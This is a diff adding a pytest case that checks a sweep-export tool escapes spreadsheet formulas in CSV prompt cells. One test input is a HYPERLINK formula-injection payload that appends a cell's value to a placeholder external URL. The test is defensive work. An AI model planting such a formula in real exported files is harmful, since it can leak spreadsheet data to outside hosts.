@@ -109,3 +109,15 @@ def test_reviews_are_in_both_exports(sweep, tmp_path):
     assert cell["mean_rating"] == 2.5 and cell["tags"] == ["artifact", "too strong"]
     assert cell["reviewers"] == ["alice", "bob"] and cell["output_url"] is None
     assert data["sweep"]["agreement"]["n_items"] == 1 and data["sweep"]["min_ratings"] is None
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1",
+                                  "-2+3", "@SUM(A1)"])
+def test_csv_cells_a_spreadsheet_would_run_are_escaped(db_session, text):
+    """Issue 16: a prompt starting with = + - @ opens as text, not as a formula."""
+    sweep = make_sweep(db_session, name=text)
+    make_generation(db_session, sweep, cell_index=0, strength=-0.5, prompt=text)
+    [row] = csv.DictReader(io.StringIO(export_sweep(db_session, sweep.id, "csv").decode()))
+    assert row["prompt"] == "'" + text
+    assert row["strength"] == "-0.5"  # numbers stay numbers
+    assert json.loads(export_sweep(db_session, sweep.id, "json"))["cells"][0]["prompt"] == text
